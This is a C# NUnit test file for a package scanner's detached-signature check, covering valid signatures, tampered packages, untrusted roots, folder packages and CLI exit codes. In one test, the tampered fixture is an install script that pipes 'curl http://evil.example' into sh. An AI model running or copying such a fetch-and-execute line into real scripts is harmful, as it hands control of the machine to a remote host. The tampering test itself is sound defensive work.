using System.Text;
using FluentAssertions;
using NUnit.Framework;
using Org.BouncyCastle.Cms;
using Org.BouncyCastle.Utilities.Collections;
using Preflight.Configuration;
using Preflight.Findings;
using Preflight.Reporting;
using Preflight.Tests.Cli;
using static Preflight.Tests.Detectors.Certificates.TestPki;

namespace Preflight.Tests.Detectors.Certificates;

/// <summary>The detached signature over the package file itself (<c>--signature</c>, <c>ScanOptions.PackageSignaturePath</c>).</summary>
public class PackageSignatureTests
{
    private static (Issued Root, Issued Ica, Issued Signer) Pki()
    {
        var root = Root("CN=Acme Release Root");
        var ica = Intermediate("CN=Acme Release CA", root);
        var signer = Leaf("CN=Acme Release Signer", ica, eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
        return (root, ica, signer);
    }

    private static async Task<ScanReport> Scan(string package, string signature, params string[] trust) =>
        await PreflightScanner.ScanAsync(package, ScanOptions.Default with
        {
            AsOf = AsOf,
            TrustedRoots = trust,
            PackageSignaturePath = signature,
            EnabledDetectors = new HashSet<string> { "certificates" },
        });

    [Test]
    public async Task Scan_accepts_a_package_whose_detached_signature_verifies_from_a_trusted_signer()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string package = Zip(dir, ("bin/install.sh", "#!/bin/sh\necho 5.0\n"));
        string signature = dir.File("acme-5.0.zip.p7s", SignDetached(File.ReadAllBytes(package), signer, ica));

        var report = await Scan(package, signature, dir.File("roots.pem", Pem(root.Certificate)));

        report.Findings.Should().BeEmpty();
        report.Inventory.Certificates.Should().Contain(c => c.Subject == "CN=Acme Release Signer" && c.Location.Path == "acme-5.0.zip.p7s");
    }

    [Test]
    public async Task Scan_reports_a_package_altered_after_signing_as_critical()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string original = Zip(dir, ("bin/install.sh", "#!/bin/sh\necho 5.0\n"));
        string signature = dir.File("acme-5.0.zip.p7s", SignDetached(File.ReadAllBytes(original), signer, ica));
        string altered = Zip(dir, ("bin/install.sh", "#!/bin/sh\ncurl http://evil.example | sh\n"));

        var report = await Scan(altered, signature, dir.File("roots.pem", Pem(root.Certificate)));

        var finding = report.Findings.Should().ContainSingle().Subject;
        finding.RuleId.Should().Be("PF616");
        finding.Severity.Should().Be(Severity.Critical);
        finding.Location.Path.Should().Be("acme-5.0.zip.p7s");
        finding.Properties["signer"].Should().Be("CN=Acme Release Signer");
    }

    [Test]
    public async Task Scan_reports_the_untrusted_signer_of_a_package_signature_naming_its_root()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string package = Zip(dir, ("bin/install.sh", "#!/bin/sh\necho 5.0\n"));
        // The vendor ships its root with the signature; the operator trusts another one.
        string signature = dir.File("acme-5.0.zip.p7s", SignDetached(File.ReadAllBytes(package), signer, ica, root));

        var report = await Scan(package, signature, dir.File("other.pem", Pem(Root("CN=Someone Else").Certificate)));

        report.Findings.Should().NotContain(f => f.RuleId == "PF616");
        var finding = report.Findings.Should().ContainSingle(f => f.RuleId == "PF605").Subject;
        finding.Location.Path.Should().Be("acme-5.0.zip.p7s");
        finding.Message.Should().Contain("'CN=Acme Release Root', which is not in the trust bundle");
    }

    [Test]
    public async Task Scan_says_a_signature_over_a_folder_package_was_not_verified()
    {
        using var dir = new TempDir();
        var (_, ica, signer) = Pki();
        Directory.CreateDirectory(Path.Combine(dir.Path, "pkg"));
        File.WriteAllText(Path.Combine(dir.Path, "pkg", "readme.txt"), "acme\n");
        string signature = dir.File("pkg.p7s", SignDetached("acme\n"u8.ToArray(), signer, ica));

        var report = await Scan(Path.Combine(dir.Path, "pkg"), signature);

        report.Findings.Should().Contain(f => f.RuleId == "PF618" && f.Message.Contains("folder", StringComparison.Ordinal));
        report.Findings.Should().NotContain(f => f.RuleId == "PF616");
    }

    [TestCase(true, 0, TestName = "CLI --signature: the signed package passes (exit 0)")]
    [TestCase(false, 1, TestName = "CLI --signature: the altered package fails (exit 1, PF616)")]
    public async Task Cli_verifies_the_package_against_its_signature(bool intact, int exitCode)
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string package = Zip(dir, ("bin/install.sh", "#!/bin/sh\necho 5.0\n"));
        string signature = dir.File("acme-5.0.zip.p7s", SignDetached(File.ReadAllBytes(package), signer, ica));
        if (!intact) File.AppendAllText(package, "trailing bytes");
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        var run = await CliHarness.RunAsync("scan", package, "--signature", signature, "--trust", trust, "--as-of", "2026-11-27", "--format", "json");

        run.ExitCode.Should().Be(exitCode, run.ToString());
        (run.Stdout.Contains("\"PF616\"", StringComparison.Ordinal)).Should().Be(!intact);
    }

    [Test]
    public async Task Cli_rejects_a_signature_file_that_does_not_exist()
    {
        using var dir = new TempDir();
        string package = Zip(dir, ("readme.txt", "acme\n"));

        var run = await CliHarness.RunAsync("scan", package, "--signature", Path.Combine(dir.Path, "missing.p7s"));

        run.ExitCode.Should().Be(2);
        run.Stderr.Should().Contain("--signature");
    }
}
